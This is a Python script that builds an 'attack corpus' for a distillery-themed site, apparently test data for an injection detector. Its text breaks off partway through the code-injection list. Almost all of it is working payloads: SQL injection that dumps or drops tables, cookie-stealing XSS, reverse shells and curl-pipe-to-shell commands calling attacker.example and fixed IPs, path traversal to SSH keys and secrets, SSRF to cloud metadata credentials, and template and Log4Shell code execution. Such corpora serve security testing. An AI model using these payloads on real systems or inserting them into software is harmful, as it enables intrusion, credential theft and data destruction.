#!/usr/bin/env python3
"""Attack corpus for the distillery theme. Hand-written; stdlib only."""
import json
import os
import random

SEED = 29102
HERE = os.path.dirname(os.path.abspath(__file__))

# (class, value) pairs, hand-written per category
SQLI = [
    ("union", "0412' UNION SELECT cask_id, owner_email, NULL, NULL FROM cask_owners-- -"),
    ("union", "heather gin' union all select username,password_hash,3,4 from staff_users#"),
    ("union", "GIN-LD-70') UNION SELECT table_name,column_name,1 FROM information_schema.columns WHERE table_schema=database()-- "),
    ("union", "-1 UNION SELECT 1,group_concat(email,0x3a,pw),3 FROM trade_accounts"),
    ("union", "navy%' UnIoN/**/SeLeCt/**/null,api_key,null/**/from/**/integrations--"),
    ("union", "PO-2024-0518' union select 1,@@version,user(),4,5-- x"),
    ("union", "0388 UNION ALL SELECT NULL,string_agg(card_last4||':'||holder,','),NULL FROM payments--"),
    ("union", "single cask' /*!50000UNION*/ /*!50000SELECT*/ 1,concat(login,0x7c,pass),3 from admins-- -"),
    ("union", "sb6') union select name, sql, null from sqlite_master--"),
    ("union", "BK-20931' UNION SELECT NULL,NULL,(SELECT TOP 1 password FROM dbo.Users),NULL--"),
    ("union", "gin' union select load_file('/etc/passwd'),2,3-- -"),
    ("union", "0\tUNION\tSELECT\tduty_ref,amount,3\tFROM\tduty_payments--"),
    ("boolean", "0412' AND 1=1-- -"),
    ("boolean", "0412' AND '7'='7"),
    ("boolean", "heather' OR 'x'='x"),
    ("boolean", "' OR 1=1 LIMIT 1 OFFSET 3-- "),
    ("boolean", "PO-2024-0518' AND SUBSTRING((SELECT password FROM staff_users WHERE username='fiona'),1,1)='a'-- "),
    ("boolean", "GIN-NS-70' AND ASCII(SUBSTR((SELECT api_key FROM integrations LIMIT 1),3,1))>77--"),
    ("boolean", "cask 0291\" or \"1\"=\"1"),
    ("boolean", "1 AnD (SeLeCt CoUnT(*) FrOm staff_users)>0"),
    ("boolean", "2 || 1=1"),
    ("boolean", "Ewan') OR ('a'='a"),
    ("boolean", "0299'/**/OR/**/2>1#"),
    ("boolean", "sb6' and (select length(database()))=8 and 'q'='q"),
    ("boolean", "admin'-- "),
    ("boolean", "fiona@example-distillery.co.uk'#"),
    ("boolean", "' or true-- -"),
    ("boolean", "x' OR EXISTS(SELECT 1 FROM cask_owners WHERE owner_email LIKE 'a%')-- "),
    ("time", "0412' AND SLEEP(6)-- -"),
    ("time", "gin'; SELECT pg_sleep(7)--"),
    ("time", "PO-0518'; WAITFOR DELAY '0:0:8'--"),
    ("time", "1 AND (SELECT 4521 FROM (SELECT(SLEEP(5)))xYz)"),
    ("time", "heather' AND IF(SUBSTRING(user(),1,1)='r',SLEEP(4),0)-- "),
    ("time", "navy' || (SELECT CASE WHEN (1=1) THEN pg_sleep(5) ELSE pg_sleep(0) END)--"),
    ("time", "0388' AND 1=(SELECT 1 FROM PG_SLEEP(6))--"),
    ("time", "sb6' and benchmark(9000000,md5('cask'))-- -"),
    ("time", "x' AND 123=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(400000000/2))))--"),
    ("time", "1);select sleep(10);#"),
    ("time", "GIN-LD-70' AnD sLeEp(5) AnD '1'='1"),
    ("error", "0412' AND extractvalue(1,concat(0x7e,(select password from staff_users limit 1)))-- -"),
    ("error", "gin' and updatexml(null,concat(0x3a,version()),null)-- "),
    ("error", "1 AND 1=CONVERT(int,(SELECT TOP 1 name FROM sys.tables))"),
    ("error", "PO-0521' AND 1=CAST((SELECT current_user) AS int)--"),
    ("error", "heather' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(database(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)-- "),
    ("error", "' and 1=ctxsys.drithsx.sn(1,(select user from dual))--"),
    ("error", "0388' AND exp(~(select * from (select user())a))-- -"),
    ("stacked", "0412'; DROP TABLE casks;--"),
    ("stacked", "Great tour, thanks!'); DELETE FROM tour_bookings WHERE '1'='1'; --"),
    ("stacked", "PO-2024-0600'; UPDATE trade_accounts SET credit_limit=999999 WHERE name='Deli & Dram';--"),
    ("stacked", "gin; INSERT INTO staff_users(username,password_hash,role) VALUES('tmp','x','admin')--"),
    ("stacked", "1; EXEC xp_cmdshell 'whoami'--"),
    ("stacked", "0291'; COPY (SELECT '') TO PROGRAM 'curl http://attacker.example/p.sh|sh';--"),
    ("stacked", "heather'; ALTER USER distillery WITH PASSWORD 'owned123';--"),
    ("stacked", "x'; SELECT '<?php system($_GET[c]); ?>' INTO OUTFILE '/var/www/html/c.php'-- "),
    ("stacked", "navy';TRUNCATE duty_returns;/*"),
    ("order-by", "qty ASC, (CASE WHEN (SELECT SUBSTR(password,1,1) FROM staff_users LIMIT 1)='$' THEN sku ELSE location END)"),
    ("order-by", "fill_date,(select 1 from (select sleep(4))z)"),
    ("order-by", "1,IF((SELECT COUNT(*) FROM cask_owners)>40,cask_id,litres)"),
    ("order-by", "abv desc; drop table casks--"),
    ("order-by", "name ORDER BY 9-- -"),
    ("oob", "0412' AND LOAD_FILE(CONCAT('\\\\\\\\',(SELECT password FROM staff_users LIMIT 1),'.sq.attacker.example\\\\a'))-- "),
    ("oob", "1; DECLARE @q varchar(99); SET @q='\\\\'+(SELECT TOP 1 name FROM sys.databases)+'.attacker.example\\x'; EXEC master..xp_dirtree @q--"),
    ("oob", "gin' || UTL_HTTP.request('http://attacker.example/'||(SELECT user FROM dual))--"),
    ("oob", "x' UNION SELECT extractvalue(xmltype('<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % e SYSTEM \"http://203.0.113.9/\">%e;]>'),'/l') FROM dual--"),
    ("obfuscated", "0412%27%20OR%201%3D1--%20-"),
    ("obfuscated", "heather%2527%2520union%2520select%2520password%2520from%2520staff_users--"),
    ("obfuscated", "ＧＩＮ＇ ＵＮＩＯＮ ＳＥＬＥＣＴ password ＦＲＯＭ staff_users--"),
    ("obfuscated", "sb6'/*x*/UnIoN/*y*/DiStInCt/*z*/SeLeCt/**/1,pw,3/**/FrOm/**/staff_users#"),
    ("obfuscated", "1'%0aunion%0aselect%0a1,pw,3%0afrom%0astaff_users--%0a"),
    ("obfuscated", "navy' oR 0x61=0x61-- "),
    ("obfuscated", "cask%u0027%u0020or%u00201=1--"),
    ("obfuscated", "0412' || '1' LIKE '1"),
    ("obfuscated", "gin'+UNION+ALL+SELECT+CHAR(112,119),2,3--+"),
    ("obfuscated", "gin\\' OR 1=1 -- \u00a0"),
    ("second-order", "O'Neill' ; UPDATE cask_owners SET owner_email='x@attacker.example' WHERE cask_id='0450' -- "),
    ("second-order", "Deli & Dram'),('evil','203.0.113.5',(SELECT pw FROM staff_users LIMIT 1))-- "),
]

XSS = [
    ("script", "Lovely tour!<script>fetch('https://attacker.example/c?'+document.cookie)</script>"),
    ("script", "Nose: pear, honey</textarea><script>new Image().src='//attacker.example/x?c='+encodeURIComponent(document.cookie)</script>"),
    ("script", "<ScRiPt>alert(document.domain)</sCrIpT>"),
    ("script", "<script src=//attacker.example/k.js></script>"),
    ("script", "heather gin<script>/*tasting*/eval(atob('ZmV0Y2goJy8vYXR0YWNrZXIuZXhhbXBsZScp'))</script>"),
    ("script", "<script>location='https://attacker.example/?s='+localStorage.getItem('token')</script>"),
    ("script", "</title><script>document.forms[0].action='https://attacker.example/steal'</script>"),
    ("script", "<script type=\"module\">import('https://attacker.example/m.mjs')</script>"),
    ("event-handler", "<img src=x onerror=alert(1)>"),
    ("event-handler", "Cask 0412 photo: <img src=/nope.jpg onerror=\"fetch('//attacker.example/'+document.cookie)\">"),
    ("event-handler", "<svg onload=confirm`distillery`>"),
    ("event-handler", "<body onpageshow=alert(1)>"),
    ("event-handler", "<details open ontoggle=\"eval(name)\">Dram Club</details>"),
    ("event-handler", "<input autofocus onfocus=alert(document.cookie) value='Booking BK-21004'>"),
    ("event-handler", "<video><source onerror=\"javascript:alert(1)\"></video>"),
    ("event-handler", "<marquee onstart=alert(origin)>SB6 is here</marquee>"),
    ("event-handler", "<div style=\"width:1000px;height:1000px\" onmouseover=\"alert(1)\">Tasting notes</div>"),
    ("event-handler", "<audio src onerror=top['al'+'ert'](1)>"),
    ("event-handler", "<img/src=`x`/onerror=prompt(8)>"),
    ("event-handler", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    ("event-handler", "<object data=x onerror=alert(1)></object>"),
    ("event-handler", "<select autofocus onfocus=alert(1)><option>70cl</option></select>"),
    ("event-handler", "<iframe srcdoc=\"&lt;img src=x onerror=alert(parent.document.cookie)&gt;\"></iframe>"),
    ("event-handler", "<table background=x onerror=alert(1)><td>Cask</td></table>"),
    ("attribute-breakout", "\" onmouseover=\"alert(1)\" x=\""),
    ("attribute-breakout", "D'Arcy' autofocus onfocus='alert(document.cookie)"),
    ("attribute-breakout", "heather gin\"><img src=x onerror=alert(1)>"),
    ("attribute-breakout", "70cl\" style=\"position:fixed;inset:0\" onclick=\"location='//attacker.example'"),
    ("attribute-breakout", "'><svg/onload=alert(1)>"),
    ("attribute-breakout", "\"><script>alert(1)</script><input value=\""),
    ("attribute-breakout", "navy' accesskey='x' onclick='alert(1)"),
    ("js-context", "';alert(document.cookie);//"),
    ("js-context", "\";fetch('//attacker.example/'+document.cookie);//"),
    ("js-context", "</script><script>alert(1)</script>"),
    ("js-context", "gin\\';alert(1);//"),
    ("js-context", "${alert(document.domain)}`;fetch(`//attacker.example`)//"),
    ("js-context", "-alert(1)-'"),
    ("js-context", "0412');alert(String.fromCharCode(88,83,83));//"),
    ("url-scheme", "javascript:alert(document.cookie)"),
    ("url-scheme", "JaVaScRiPt:fetch('//attacker.example/'+document.cookie)"),
    ("url-scheme", "java\tscript:alert(1)"),
    ("url-scheme", "<a href=\"javascript&#58;alert(1)\">Book the tour</a>"),
    ("url-scheme", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
    ("url-scheme", "<a href=\"&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:alert(1)\">tasting notes</a>"),
    ("url-scheme", "<iframe src=\"javascript:parent.location='//attacker.example'\"></iframe>"),
    ("url-scheme", "<form action=javascript:alert(1)><button>Order</button></form>"),
    ("url-scheme", "<embed src=\"data:image/svg+xml,<svg onload=alert(1) xmlns='http://www.w3.org/2000/svg'/>\">"),
    ("url-scheme", "<math><a xlink:href=\"javascript:alert(1)\">cask</a></math>"),
    ("encoded", "%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
    ("encoded", "%253Cimg%2520src%253Dx%2520onerror%253Dalert(1)%253E"),
    ("encoded", "&lt;img src=x onerror=alert(1)&gt;"),
    ("encoded", "\\u003cimg src=x onerror=alert(1)\\u003e"),
    ("encoded", "\\x3csvg onload=alert(1)\\x3e"),
    ("encoded", "＜script＞alert(1)＜/script＞"),
    ("encoded", "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>"),
    ("encoded", "<svg><script>&#x61;lert(1)</script></svg>"),
    ("encoded", "%u003Cscript%u003Ealert(1)%u003C/script%u003E"),
    ("encoded", "<img src=x onerror=\"\\u0061lert(1)\">"),
    ("filter-evasion", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("filter-evasion", "<img src=x oNeRrOr=alert(1)//"),
    ("filter-evasion", "<svg/onload=&#x61;&#x6C;&#x65;&#x72;&#x74;(1)>"),
    ("filter-evasion", "<img src=x onerror=window['ev'+'al']('ale'+'rt(1)')>"),
    ("filter-evasion", "<img src=x:x onerror=import('//attacker.example/x.js')>"),
    ("filter-evasion", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
    ("filter-evasion", "<svg><style><img src=x onerror=alert(1)></style></svg>"),
    ("filter-evasion", "<a href=# onclick\n=\nalert(1)>Cask share</a>"),
    ("filter-evasion", "<img src=\"x\"onerror=\"alert(1)\">"),
    ("markdown", "[Book now](javascript:alert(document.cookie))"),
    ("markdown", "![cask photo](x\" onerror=\"alert(1))"),
    ("markdown", "[click](data:text/html,<script>alert(1)</script>)"),
    ("template-dom", "{{constructor.constructor('alert(1)')()}}"),
    ("template-dom", "<div ng-app ng-csp><input autofocus ng-focus=$event.view.alert(1)></div>"),
    ("template-dom", "<x v-on:click=\"_c.constructor('alert(1)')()\">Dram</x>"),
    ("css", "<div style=\"background:url(javascript:alert(1))\">gin</div>"),
    ("css", "<style>@import 'https://attacker.example/leak.css';</style>"),
    ("css", "<link rel=stylesheet href=//attacker.example/x.css>"),
    ("svg", "<svg xmlns=\"http://www.w3.org/2000/svg\"><foreignObject><iframe src=\"javascript:alert(1)\"/></foreignObject></svg>"),
    ("svg", "<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>cask 0412</text></a></svg>"),
    ("meta", "<meta http-equiv=\"refresh\" content=\"0;url=https://attacker.example/login\">"),
    ("base", "<base href=\"https://attacker.example/\">"),
]

CMDI = [
    ("separator", "0412; cat /etc/passwd"),
    ("separator", "cask_0412.pdf; curl -s http://attacker.example/s.sh | sh"),
    ("separator", "label.png && wget -qO- http://203.0.113.7/x | bash"),
    ("separator", "SB6 || id"),
    ("separator", "report_2024-06.csv | nc 198.51.100.4 4444 -e /bin/sh"),
    ("separator", "G-092\nbash -i >& /dev/tcp/203.0.113.8/9001 0>&1"),
    ("separator", "stock.csv%0Aid"),
    ("separator", "0388 & ping -n 5 attacker.example &"),
    ("separator", "invoice.pdf;rm -rf /var/www/uploads/*"),
    ("separator", "run223.log ; python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.11\",443));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'"),
    ("separator", "heather.jpg; php -r '$s=fsockopen(\"198.51.100.20\",8080);exec(\"sh <&3 >&3 2>&3\");'"),
    ("separator", "photo.jpg\r\nwhoami"),
    ("separator", "x && echo c2ggLWkgPiYgL2Rldi90Y3AvMjAzLjAuMTEzLjUvNDQ0IDA+JjE= | base64 -d | bash"),
    ("separator", "label_front.svg; chmod +x /tmp/.x && /tmp/.x"),
    ("separator", "0412 || curl attacker.example/$(whoami)"),
    ("separator", "backup.tar.gz; tar czf - /etc | curl -T - https://attacker.example/up"),
    ("substitution", "$(id)"),
    ("substitution", "cask_$(cat /etc/hostname).pdf"),
    ("substitution", "`uname -a`"),
    ("substitution", "G-091 $(curl -fsSL http://attacker.example/a|sh)"),
    ("substitution", "report-`whoami`.csv"),
    ("substitution", "Heather Gin $(sleep 9)"),
    ("substitution", "$(nslookup $(whoami).cmd.attacker.example)"),
    ("substitution", "invoice-$(printf '\\x69\\x64').pdf"),
    ("substitution", "${IFS}`id`"),
    ("substitution", "a$(echo${IFS}Y2F0IC9ldGMvc2hhZG93|base64${IFS}-d|sh)"),
    ("substitution", "sb6.png`curl${IFS}-d${IFS}@/etc/passwd${IFS}attacker.example`"),
    ("blind", "0412; sleep 12 #"),
    ("blind", "label.pdf | ping -c 10 127.0.0.1"),
    ("blind", "run.log && timeout 8 yes > /dev/null"),
    ("blind", "a;dig +short `hostname`.dns.attacker.example"),
    ("blind", "x; curl http://attacker.example/ping?h=$(hostname|base64)"),
    ("blind", "stock.csv;nslookup cmdi.attacker.example;"),
    ("evasion", "c'a't /e't'c/pa's'swd"),
    ("evasion", "c\\at /et\\c/pas\\swd"),
    ("evasion", "0412;cat${IFS}/etc/passwd"),
    ("evasion", "0412;{cat,/etc/passwd}"),
    ("evasion", "x;/???/c?t /???/p?ss??"),
    ("evasion", "a;$'\\x63\\x61\\x74' /etc/passwd"),
    ("evasion", "q;w$@ho$()ami"),
    ("evasion", "x;X=$'cat\\x20/etc/shadow'&&$X"),
    ("evasion", "b;cat</etc/passwd"),
    ("evasion", "cask%3Bid"),
    ("evasion", "label%26%26curl%20attacker.example%7Csh"),
    ("evasion", "a;c${u}url${IFS}-s${IFS}attacker.example/x|s${u}h"),
    ("evasion", "x;$(printf 'Y3VybCBhdHRhY2tlci5leGFtcGxlfHNo'|base64 -d)"),
    ("evasion", "0412;\"w\"h\"o\"a\"m\"i"),
    ("evasion", "z;rev<<<'di'|sh"),
    ("windows", "report.csv & type C:\\Windows\\win.ini"),
    ("windows", "label.pdf | powershell -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://attacker.example/a.ps1')\""),
    ("windows", "x && certutil -urlcache -split -f http://203.0.113.14/p.exe %TEMP%\\p.exe && %TEMP%\\p.exe"),
    ("windows", "0412 | net user tmpadmin P4ss! /add"),
    ("windows", "a & powershell -enc SQBFAFgAKABpAHcAcgAgAGgAdAB0AHAAOgAvAC8AYQB0AHQAYQBjAGsAZQByAC4AZQB4AGEAbQBwAGwAZQApAA=="),
    ("windows", "x|set /p=<C:\\inetpub\\wwwroot\\web.config"),
    ("windows", "run.log & ping -n 11 127.0.0.1 &"),
    ("windows", "sb6^&whoami"),
    ("argument", "--output=/var/www/html/shell.php"),
    ("argument", "-oProxyCommand=curl attacker.example|sh x"),
    ("argument", "label.png -write /var/www/html/x.php"),
    ("argument", "--checkpoint=1 --checkpoint-action=exec=sh /tmp/x.sh"),
    ("argument", "https://attacker.example/a.png -o /etc/cron.d/x"),
    ("argument", "-e /bin/sh 203.0.113.40 4444"),
    ("argument", "--upload-pack=touch /tmp/pwned"),
    ("argument", "'-exec sh -c \"id > /tmp/o\" ;"),
    ("imagemagick", "push graphic-context\nviewbox 0 0 640 480\nfill 'url(https://attacker.example/x.jpg\"|curl \"attacker.example/$(id))'\npop graphic-context"),
    ("imagemagick", "<svg><image href=\"msl:/tmp/evil.msl\"/></svg>"),
    ("env", "() { :;}; /bin/bash -c 'curl http://attacker.example/sh|sh'"),
    ("env", "LD_PRELOAD=/tmp/evil.so"),
    ("env", "() { _; } >_[$($())] { id; }"),
]

CMDI_POOL = ["; id", "| curl -s attacker.example/r|sh", "$(sleep 7)", "`cat /etc/passwd`", "&& nc 203.0.113.5 4444 -e /bin/sh", "\nwget http://198.51.100.9/b -O /tmp/b"]
CMDI_PREFIX = ["cask_0412_label.pdf", "stock_2024-06.csv", "run223.log", "sb7_front.png"]

TRAVERSAL = [
    ("dotdot", "../../../../etc/passwd"),
    ("dotdot", "labels/../../../../../etc/shadow"),
    ("dotdot", "cask_0412.pdf/../../../../proc/self/environ"),
    ("dotdot", "..\\..\\..\\..\\windows\\win.ini"),
    ("dotdot", "reports/2024/../../../../../../var/www/.env"),
    ("dotdot", "../../../app/config/database.yml"),
    ("dotdot", "../../../../home/distillery/.ssh/id_rsa"),
    ("dotdot", "stock_sheets/../../../../root/.bash_history"),
    ("dotdot", "..\\..\\..\\inetpub\\wwwroot\\web.config"),
    ("dotdot", "../../../../proc/self/cmdline"),
    ("dotdot", "photos/2024/June/../../../../../../etc/hosts"),
    ("dotdot", "../../../var/log/nginx/access.log"),
    ("dotdot", "templates/newsletter/../../../../../etc/passwd"),
    ("dotdot", "../.git/config"),
    ("dotdot", "../../../../../../../../../../../../etc/passwd"),
    ("dotdot", "....//....//....//etc/passwd"),
    ("dotdot", "..././..././..././etc/passwd"),
    ("dotdot", "....\\\\....\\\\....\\\\windows\\\\system32\\\\drivers\\\\etc\\\\hosts"),
    ("dotdot", "..;/..;/..;/WEB-INF/web.xml"),
    ("dotdot", "/static/../../../../etc/passwd"),
    ("absolute", "/etc/passwd"),
    ("absolute", "C:\\Windows\\System32\\config\\SAM"),
    ("absolute", "/proc/self/fd/3"),
    ("absolute", "\\\\203.0.113.20\\share\\x.xlsx"),
    ("absolute", "/var/run/secrets/kubernetes.io/serviceaccount/token"),
    ("encoded", "..%2f..%2f..%2f..%2fetc%2fpasswd"),
    ("encoded", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fshadow"),
    ("encoded", "..%252f..%252f..%252fetc%252fpasswd"),
    ("encoded", "%252e%252e%252f%252e%252e%252fproc%252fself%252fenviron"),
    ("encoded", "..%c0%af..%c0%af..%c0%afetc%c0%afpasswd"),
    ("encoded", "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
    ("encoded", "..%e0%80%af..%e0%80%afetc/passwd"),
    ("encoded", "..%u2215..%u2215..%u2215etc%u2215passwd"),
    ("encoded", "%u002e%u002e%u002f%u002e%u002e%u002fetc%u002fpasswd"),
    ("encoded", "..%5c..%5c..%5cwindows%5cwin.ini"),
    ("encoded", "．．／．．／．．／etc／passwd"),
    ("encoded", "..%2F..%5C..%2F..%5Cetc/passwd"),
    ("encoded", "cask_0412.pdf%2f..%2f..%2f..%2fetc%2fpasswd"),
    ("encoded", "..\u2215..\u2215..\u2215etc\u2215passwd"),
    ("null-byte", "../../../../etc/passwd%00.pdf"),
    ("null-byte", "..%2f..%2f..%2fetc%2fpasswd%00.csv"),
    ("null-byte", "../../../app/.env\\u0000.png"),
    ("wrapper", "php://filter/convert.base64-encode/resource=../config.php"),
    ("wrapper", "file:///etc/passwd"),
    ("wrapper", "zip://uploads/stock.zip%23../../shell.php"),
    ("wrapper", "phar:///var/www/uploads/label.jpg/x"),
]

SSRF = [
    ("metadata", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("metadata", "http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token"),
    ("metadata", "http://metadata.google.internal/computeMetadata/v1/?recursive=true"),
    ("metadata", "http://169.254.169.254/metadata/instance?api-version=2021-02-01"),
    ("metadata", "http://[fd00:ec2::254]/latest/meta-data/"),
    ("metadata", "http://100.100.100.200/latest/meta-data/"),
    ("metadata", "http://169.254.170.2/v2/credentials/"),
    ("localhost", "http://127.0.0.1:8080/admin/users"),
    ("localhost", "http://localhost:6379/"),
    ("localhost", "http://localhost/server-status"),
    ("localhost", "https://127.0.0.1:9200/_cat/indices"),
    ("localhost", "http://[::1]:2375/containers/json"),
    ("localhost", "http://0.0.0.0:5000/api/export?all=1"),
    ("localhost", "http://localhost:8500/v1/agent/self"),
    ("internal", "http://10.0.0.12/phpmyadmin/"),
    ("internal", "http://192.168.1.1/cgi-bin/luci"),
    ("internal", "http://172.17.0.1:2379/v2/keys/?recursive=true"),
    ("internal", "http://inventory-db.internal:5984/_all_dbs"),
    ("internal", "http://kubernetes.default.svc/api/v1/namespaces/default/secrets"),
    ("internal", "http://jenkins.corp.local:8080/script"),
    ("internal", "http://10.10.4.20:8161/admin/"),
    ("alt-ip", "http://2130706433/admin"),
    ("alt-ip", "http://0x7f000001:8080/"),
    ("alt-ip", "http://0177.0.0.1/"),
    ("alt-ip", "http://127.1/server-status"),
    ("alt-ip", "http://0xA9FEA9FE/latest/meta-data/"),
    ("alt-ip", "http://2852039166/latest/user-data"),
    ("alt-ip", "http://[::ffff:127.0.0.1]:8000/"),
    ("alt-ip", "http://[0:0:0:0:0:ffff:a9fe:a9fe]/latest/meta-data/"),
    ("alt-ip", "http://0251.0376.0251.0376/"),
    ("alt-ip", "http://①②⑦.⓪.⓪.①/admin"),
    ("alt-ip", "http://127.0.0.1.nip.io:8080/"),
    ("parser", "http://shop.example-distillery.co.uk@127.0.0.1/admin"),
    ("parser", "http://127.0.0.1#@shop.example-distillery.co.uk/"),
    ("parser", "http://attacker.example\\@169.254.169.254/latest/meta-data/"),
    ("parser", "http://localtest.attacker.example/redirect?to=http://169.254.169.254/"),
    ("parser", "https://attacker.example/302?url=http%3A%2F%2F127.0.0.1%3A6379%2F"),
    ("parser", "http://127。0。0。1/admin"),
    ("parser", "http://rebind.attacker.example:8080/internal/backup"),
    ("scheme", "gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A"),
    ("scheme", "gopher://localhost:25/_HELO%20x%0D%0AMAIL%20FROM%3A%3Cx%40attacker.example%3E%0D%0A"),
    ("scheme", "dict://127.0.0.1:11211/stats"),
    ("scheme", "file://localhost/etc/shadow"),
    ("scheme", "ldap://127.0.0.1:389/%0astats%0aquit"),
    ("scheme", "tftp://203.0.113.30/evil"),
    ("scheme", "jar:http://attacker.example/x.jar!/"),
    ("scheme", "netdoc:///etc/hosts"),
]

SSRF_POOL = ["http://169.254.169.254/latest/meta-data/", "http://127.0.0.1:2375/info", "http://10.0.0.5/admin", "gopher://127.0.0.1:11211/_stats"]
SSRF_PREFIX = ["Logo URL for the festival: ", "Webhook for trade orders: ", "Import stock sheet from: "]

CODE = [
    ("ssti-jinja", "{{7*'7'}}"),
    ("ssti-jinja", "Hi {{ cycler.__init__.__globals__.os.popen('id').read() }}"),
    ("ssti-jinja", "{{ self._TemplateReference__context.joiner.__init__.__globals__.os.popen('cat /etc/passwd').read() }}"),
    ("ssti-jinja", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    ("ssti-jinja", "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f') }}"),
    ("ssti-jinja", "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='Popen' %}{{ c(['id'],stdout=-1).communicate() }}{% endif %}{% endfor %}"),
    ("ssti-jinja", "Dear {{ config.items() }}"),
    ("ssti-jinja", "{{ lipsum.__globals__['os'].popen('curl attacker.example|sh').read() }}"),
    ("ssti-jinja", "{{ namespace.__init__.__globals__.__builtins__.open('/app/.env').read() }}"),
    ("ssti-twig", "{{_self.env.registerUndefinedFilterCallback('exec')}}{{_self.env.getFilter('id')}}"),
    ("ssti-twig", "{{['id']|filter('system')}}"),
    ("ssti-twig", "{{ ['cat /etc/passwd']|map('passthru')|join }}"),
    ("ssti-freemarker", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}"),
    ("ssti-freemarker", "${\"freemarker.template.utility.ObjectConstructor\"?new()(\"java.lang.ProcessBuilder\",[\"id\"]).start()}"),
    ("ssti-velocity", "#set($r=$class.inspect('java.lang.Runtime').type.getRuntime().exec('id'))$r"),
    ("ssti-erb", "<%= `id` %>"),
    ("ssti-erb", "<%= File.read('/etc/passwd') %>"),
    ("ssti-erb", "Dram Club <%= system('curl attacker.example/x|sh') %>"),
    ("ssti-smarty", "{system('id')}"),
    ("ssti-smarty", "{php}echo `id`;{/php}"),
    ("ssti-handlebars", "{{#with \"s\" as |string|}}{{#with string.sub.apply 0 \"constructor\"}}{{this.constructor \"return process.mainModule.require('child_process').execSync('id')\"}}{{/with}}{{/with}}"),
    ("ssti-pug", "#{global.process.mainModule.require('child_process').execSync('id')}"),
    ("ssti-tornado", "{% import os %}{{ os.popen('whoami').read() }}"),
    ("ssti-mako", "${__import__('os').popen('id').read()}"),
    ("ssti-razor", "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\")"),
    ("ssti-thymeleaf", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x"),
    ("el-spel", "${T(java.lang.Runtime).getRuntime().exec('curl attacker.example')}"),
    ("el-spel", "#{T(java.lang.System).getenv()}"),
    ("el-spel", "*{new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec('id').getInputStream()).next()}"),
    ("el-ognl", "%{(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(@java.lang.Runtime@getRuntime().exec('id'))}"),
    ("el-ognl", "${(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('touch /tmp/x'))}"),
    ("el-jsp", "${pageContext.request.getSession().setAttribute('admin',true)}"),
    ("el-jsp", "${applicationScope}"),
    ("el-mvel", "@{Runtime.getRuntime().exec('id')}"),
    ("log4shell", "${jndi:ldap://attacker.example:1389/a}"),
    ("log4shell", "Booking BK-21004 ${jndi:rmi://203.0.113.50/x}"),
    ("log4shell", "${${lower:j}ndi:${lower:l}dap://attacker.example/o}"),
    ("log4shell", "${${::-j}${::-n}${::-d}${::-i}:ldap://198.51.100.33/e}"),
    ("log4shell", "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.attacker.example}"),
    ("log4shell", "${j${k8s:k5:-ND}i:ldaps://attacker.example/z}"),
    ("log4shell", "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//attacker.example/p}"),
    ("log4shell", "%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fq%7D"),
    ("eval-js", "require('child_process').exec('curl attacker.example|sh')"),
    ("eval-js", "process.mainModule.require('fs').readFileSync('/etc/passwd','utf8')"),
    ("eval-js", "this.constructor.constructor('return process')().exit()"),
    ("eval-js", "1;global.process.kill(global.process.pid)"),
    ("eval-python", "__import__('os').system('id')"),
    ("eval-python", "qty * 1 + __import__('subprocess').check_output(['cat','/etc/passwd'])"),
    ("eval-python", "().__class__.__bases__[0].__subclasses__()"),
    ("eval-python", "eval(compile('import os;os.system(\"id\")','x','exec'))"),
    ("eval-php", "<?php system($_GET['c']); ?>"),
    ("eval-php", "<?= `curl attacker.example/s|sh` ?>"),
    ("eval-php", "phpinfo();"),
    ("eval-php", "${@eval($_POST[1])}"),
    ("eval-php", "assert(base64_decode('c3lzdGVtKCdpZCcpOw=='));"),
    ("eval-ruby", "Kernel.exec('id')"),
    ("eval-ruby", "#{`cat /etc/passwd`}"),
    ("prototype-pollution", "{\"__proto__\":{\"isAdmin\":true}}"),
    ("prototype-pollution", "{\"constructor\":{\"prototype\":{\"role\":\"admin\"}}}"),
    ("prototype-pollution", "__proto__[isAdmin]=true"),
    ("prototype-pollution", "{\"sku\":\"GIN-LD-70\",\"__proto__\":{\"shell\":\"/proc/self/exe\",\"NODE_OPTIONS\":\"--require /proc/self/environ\"}}"),
    ("prototype-pollution", "constructor.prototype.outputFunctionName=x;process.mainModule.require('child_process').execSync('id');s"),
    ("csv-formula", "=cmd|'/C calc'!A0"),
    ("csv-formula", "=HYPERLINK(\"https://attacker.example/?d=\"&A2&B2,\"Cask 0412 statement\")"),
    ("csv-formula", "+cmd|' /C powershell IEX(wget attacker.example/p)'!A1"),
    ("csv-formula", "-2+3+cmd|' /C notepad'!'A1'"),
